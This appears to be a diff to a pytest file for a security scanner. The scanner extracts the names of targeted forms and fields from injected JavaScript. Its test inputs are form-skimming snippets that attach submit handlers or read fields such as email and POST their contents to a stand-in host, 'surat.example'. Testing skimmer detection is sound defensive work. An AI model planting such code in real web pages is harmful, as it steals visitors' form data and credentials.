@@ -7,6 +7,10 @@ import pytest
 from cyberscan.parse.scripts import read
 
 SENT = "fetch('https://surat.example/s',{mode:'no-cors',method:'POST',body:"
+TWO = (
+    "var a=document.getElementById('a'),b=document.getElementById('b');a.onsubmit=b.onsubmit=e=>"
+    f"{SENT}new FormData(e.target)}})"
+)
 
 
 def named(source: str) -> set[str]:
@@ -18,10 +22,7 @@ def named(source: str) -> set[str]:
 @pytest.mark.parametrize(
     ("source", "names"),
     [
-        (
-            f"var f=document.getElementById('Kabar');f.onsubmit=()=>{SENT}new FormData(f)}})",
-            "kabar",
-        ),
+        (f"var f=document.getElementById('Kabar');{SENT}new FormData(f)}})", "kabar"),
         (f"$('#kabar').on('submit',function(){{{SENT}$(this).serialize()}})}})", "kabar"),
         (f"document.forms.kabar.onsubmit=e=>{SENT}new FormData(e.target)}})", "kabar"),
         (f"document.forms['kabar'].onsubmit=e=>{SENT}new FormData(e.target)}})", "kabar"),
@@ -30,11 +31,7 @@ def named(source: str) -> set[str]:
         (f"{SENT}new FormData(document.getElementById('kabar'))}})", "kabar"),
         (f"{SENT}document.getElementById('surel').value}})", "surel"),
         (f"{SENT}document.querySelector('#k input[name=email]').value}})", "email"),
-        (
-            "var a=document.getElementById('a'),b=document.getElementById('b');a.onsubmit=b.onsubmit="
-            f"e=>{SENT}new FormData(e.target)}})",
-            "a b",
-        ),
+        (TWO, "a b"),
     ],
 )
 def test_forms_that_are_named(source: str, names: str) -> None:
